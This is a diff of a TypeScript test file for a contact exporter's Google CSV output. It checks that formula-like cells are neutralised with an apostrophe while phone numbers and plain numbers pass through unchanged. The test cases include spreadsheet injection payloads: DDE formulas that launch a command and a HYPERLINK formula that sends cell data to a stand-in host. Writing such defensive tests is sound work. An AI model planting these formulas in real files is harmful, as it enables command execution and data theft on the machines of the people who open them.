@@ -2,7 +2,7 @@ import { parse } from "csv-parse/sync";
 import fc from "fast-check";
 import { describe, expect, it } from "vitest";
 import { csvHead, csvRow } from "../../../functions/export-worker/google-csv.ts";
-import type { ContactRecord } from "../../../shared/contact/record.ts";
+import { blankContact, type ContactRecord } from "../../../shared/contact/record.ts";
 import { arbitraryContact } from "../../support/contact/arbitrary-contact.ts";
 import { arbitraryHostileContact } from "../../support/contact/hostile-contact.ts";
 
@@ -36,7 +36,7 @@ describe("a row", () => {
         const row = read(contact);
         const cells = Object.values(row);
         for (const cell of cells.filter((each) => /^[=+\-@\t\r\n]/.test(each))) {
-          expect(cell).toMatch(/^[+-]?[\d(*#. ][\d().,;/*#x -]*$/i);
+          expect(cell).toMatch(/^\+[\d ().,;/*#-]+(x[\d ().,;/*#-]*)?$|^-\d+(\.\d+)?(e-\d+)?$/i);
         }
         const shown = (text: string) =>
           expect(cells.map((cell) => cell.replace(/^'(?=[=+\-@\t\r\n])/, ""))).toContain(text);
@@ -57,22 +57,35 @@ describe("a row", () => {
   });
 
   it.each([
-    ["=1+1", "'=1+1"],
-    ["+cmd|x", "'+cmd|x"],
-    ["-", "'-"],
-    ["@SUM(A1)", "'@SUM(A1)"],
-    ["\tx", "'\tx"],
-    ["+49 (30) 123-45 x6", "+49 (30) 123-45 x6"],
-    ["+491701234567", "+491701234567"],
-    ["-12.5", "-12.5"],
-    ["a=b", "a=b"],
-  ])("makes %j harmless unless it is a number", (notes, cell) => {
-    expect(read({ ...contactWith(notes) }).Notes).toBe(cell);
+    ...["=1+1", '=HYPERLINK("https://x.example?"&A1)', "=cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0"],
+    ...[
+      "+cmd|' /C calc'!A0",
+      "-2+3+cmd|' /C calc'!A0",
+      "+A1",
+      "-A1*2",
+      "+1*x1",
+      "-1-x1",
+      "-2-3",
+      "+1+2",
+      "-",
+      "+",
+      "@ann",
+    ],
+    ...["\t=1+1", "\r=1+1", "\n=1+1", "-5 kg", "+49 30 call me", "--02-29"],
+  ])("makes %j text", (notes) => {
+    expect(read(contactWith({ notes })).Notes).toBe(`'${notes}`);
+  });
+
+  it.each([
+    ...["+491701234567", "+49 (30) 123-45 x6", "+49 30/12345", "+1 555.123.4567", "+1 5551234,,77#", "+44 20 123X4"],
+    ...["-12.5", "-33", "-1e-7", "a=1", "1+1", "*1", "'=1+1", " =1"],
+  ])("leaves %j as it is", (notes) => {
+    expect(read(contactWith({ notes })).Notes).toBe(notes);
   });
 
   it("has the labels of the groups, and an asterisk at the preferred address", () => {
     const emails = ["a", "b"].map((name) => ({ type: "home", value: `${name}@x.example`, preferred: name === "b" }));
-    const row = read({ ...contactWith(""), emails }, ["Crew", "Old, friends"]);
+    const row = read(contactWith({ emails }), ["Crew", "Old, friends"]);
     expect([row.Labels, row["E-mail 1 - Label"], row["E-mail 2 - Label"]]).toEqual([
       "Crew ::: Old, friends",
       "home",
@@ -81,8 +94,6 @@ describe("a row", () => {
   });
 });
 
-function contactWith(notes: string): ContactRecord {
-  const [contact] = fc.sample(arbitraryContact(accountId), { numRuns: 1, seed: 1 });
-  if (!contact) throw new Error("no contact");
-  return { ...contact, notes };
+function contactWith(fields: Partial<ContactRecord>): ContactRecord {
+  return { ...blankContact(accountId, accountId, new Date("2026-03-01T10:00:00.000Z")), ...fields };
 }
